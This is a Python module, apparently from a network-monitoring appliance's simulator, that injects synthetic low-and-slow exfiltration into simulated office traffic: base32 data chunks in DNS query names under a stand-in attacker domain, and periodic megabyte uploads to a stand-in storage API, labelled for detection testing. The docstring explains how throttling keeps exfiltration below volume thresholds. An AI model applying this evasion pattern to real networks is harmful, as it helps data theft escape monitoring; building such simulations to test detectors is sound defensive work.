"""Exfiltration spread over time so that no window holds much: over DNS, a query or two a minute each
carrying a few dozen bytes in its name; over HTTPS, a few megabytes every few minutes to a cloud storage
API, all day long, below any per-hour volume bar.

What it reproduces: MITRE ATT&CK T1030 (Data Transfer Size Limits) and T1029 (Scheduled Transfer) as
rclone-based and custom exfiltration tools perform them (rclone's `--bwlimit` and `--max-transfer`, chunked
uploads on a timer), and DNS exfiltration with long pauses between queries in the style of DNSExfiltrator
(Arno0x, `-t` throttle between requests) and dnscat2's `--delay`: base32 chunks in the labels of A queries
under the attacker's domain, resolved through the office's own DNS server. The DNS variant is labelled
DNS_TUNNELING (the rule that names data in query names), the HTTPS one DATA_EXFILTRATION.
"""

from __future__ import annotations

import base64

from appliance.simulate import conversations as talk
from appliance.simulate.attacks import attack_start, attacker_workstation, record
from appliance.simulate.protocols import tls
from appliance.simulate.site import Site

DOMAIN = "cdn-metrics-sync.example"
UPLOAD_API = "api.filesync-storage.example"


def inject(site: Site) -> None:
    _dns(site)
    _https(site)


def _dns(site: Site) -> None:
    rng = site.rng("attack:slow-exfil:dns")
    host = attacker_workstation(site, rng)
    dc = site.office.dc
    start = ts = attack_start(site, rng, 0.02, 0.08)
    end, sequence = start, 0
    while ts < site.end:
        chunk = base64.b32encode(site.capture.filler(rng.randint(25, 35), sequence * 53)).decode().rstrip("=").lower()
        name = f"{chunk}.{sequence:04x}.{DOMAIN}"
        end = talk.dns_lookup(site, rng, ts, host, name, rdatas=[bytes((127, 0, 0, rng.randint(1, 9)))], ttl=0)
        sequence += 1
        ts += rng.uniform(30, 90)
    record(site, "DNS_TUNNELING", "slow-dns-exfil-1-per-30-90s", host, dc, 53, start, end)


def _https(site: Site) -> None:
    rng = site.rng("attack:slow-exfil:https")
    host = attacker_workstation(site, rng)
    server = site.office.internet.at(UPLOAD_API, "192.0.2.122")
    start = ts = attack_start(site, rng, 0.02, 0.08)
    end, total = start, 0
    while ts < site.end:
        chunk = rng.randint(1_500_000, 3_500_000)
        total += chunk
        end = talk.https_visit(site, rng, ts, host, UPLOAD_API, tls.GO_CRYPTO_TLS, [(chunk, rng.randint(300, 500))],
                               server=server)
        ts += rng.uniform(300, 900)
    record(site, "DATA_EXFILTRATION", f"spread-https-{total / 1e6:.0f}MB-every-5-15min", host, server, 443, start, end)
